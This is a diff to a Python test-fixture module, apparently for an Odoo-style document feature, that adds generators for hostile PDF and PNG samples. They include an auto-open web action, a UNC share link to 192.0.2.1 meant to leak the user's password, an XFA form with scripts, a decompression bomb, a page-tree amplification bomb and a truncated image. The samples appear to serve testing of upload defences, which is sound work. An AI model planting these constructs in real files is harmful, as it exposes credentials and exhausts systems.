@@ -1,12 +1,14 @@
 """Orders with documents, and files of every kind."""
 
 import io
+import zlib
 
 from PIL import Image
 from reportlab.lib.pdfencrypt import StandardEncryption
 from reportlab.pdfgen.canvas import Canvas
 
 from odoo.tools.pdf import (
+    ArrayObject,
     DictionaryObject,
     NameObject,
     PdfFileReader,
@@ -73,6 +75,105 @@ def hidden_script(writer):
     """Run a script when a page is shown."""
     action = writer._add_object(_script_action())
     writer.pages[0][NameObject("/AA")] = DictionaryObject({NameObject("/O"): action})
+
+
+def opens_web_page(writer):
+    """Open a web page when the file is opened."""
+    writer._root_object[NameObject("/OpenAction")] = _web_action()
+
+
+def link_to_web_page(writer):
+    """Offer a link that somebody may click, as most invoices do."""
+    link = DictionaryObject(
+        {NameObject("/Subtype"): NameObject("/Link"), NameObject("/A"): _web_action()}
+    )
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+
+
+def _web_action():
+    return DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/URI"),
+            NameObject("/URI"): createStringObject("https://example.com"),
+        }
+    )
+
+
+def file_on_a_share(writer):
+    """Open a file on another computer, which learns the user's password by it."""
+    action = DictionaryObject(
+        {
+            NameObject("/S"): NameObject("/GoToR"),
+            NameObject("/F"): createStringObject("\\\\192.0.2.1\\share\\a.pdf"),
+        }
+    )
+    link = DictionaryObject({NameObject("/A"): action})
+    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
+
+
+def form_with_scripts(writer):
+    """Bring a form of Adobe's, which has scripts of its own."""
+    form = DictionaryObject({NameObject("/XFA"): createStringObject("<xdp/>")})
+    writer._root_object[NameObject("/AcroForm")] = form
+
+
+def swollen_pdf(megabytes):
+    """Return a small PDF whose first object lies behind megabytes of blanks."""
+    objects = b"1 0 " + b" " * (megabytes << 20) + b"<</Type/Catalog/Pages 2 0 R>>"
+    packed = zlib.compress(objects, 9)
+    content = b"%PDF-1.5\n"
+    starts = []
+    for number, head, stream in (
+        (2, b"<</Type/Pages/Kids[]/Count 0>>", None),
+        (3, b"<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length %d>>", packed),
+        (4, b"<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>", bytes(35)),
+    ):
+        starts.append(len(content))
+        if number == 4:
+            entries = [(0, 0, 65535), (2, 3, 0), *((1, start, 0) for start in starts)]
+            stream = b"".join(
+                kind.to_bytes(1) + start.to_bytes(4) + index.to_bytes(2)
+                for kind, start, index in entries
+            )
+        content += b"%d 0 obj\n" % number
+        content += head % len(stream) if stream else head
+        content += b"\nstream\n%s\nendstream" % stream if stream else b""
+        content += b"\nendobj\n"
+    return content + b"startxref\n%d\n%%%%EOF\n" % starts[-1]
+
+
+def pdf_of_shared_pages(levels=8, width=10):
+    """Return a PDF whose tree of pages shares its branches: width ** levels pages."""
+    content = b"%PDF-1.4\n1 0 obj\n<</Type/Catalog/Pages 2 0 R>>\nendobj\n"
+    starts = [9]
+    for level in range(levels):
+        starts.append(len(content))
+        kids = b"%d 0 R " % (level + 3) * width
+        content += b"%d 0 obj\n<</Type/Pages/Count 1/Kids[%s]>>\nendobj\n" % (
+            level + 2,
+            kids,
+        )
+    starts.append(len(content))
+    content += b"%d 0 obj\n<</Type/Page/MediaBox[0 0 9 9]>>\nendobj\n" % (levels + 2)
+    table = b"".join(b"%010d 00000 n \n" % start for start in starts)
+    return (
+        content
+        + b"xref\n0 %d\n0000000000 65535 f \n%s"
+        % (
+            len(starts) + 1,
+            table,
+        )
+        + b"trailer\n<</Root 1 0 R/Size %d>>\nstartxref\n%d\n%%%%EOF\n"
+        % (
+            len(starts) + 1,
+            len(content),
+        )
+    )
+
+
+def png_without_picture():
+    """Return a PNG that ends before its picture begins."""
+    return image()[:33] + b"\0\0\0\0IEND\xaeB`\x82"
 
 
 def image(kind="PNG", size=(40, 20), mode="RGB"):
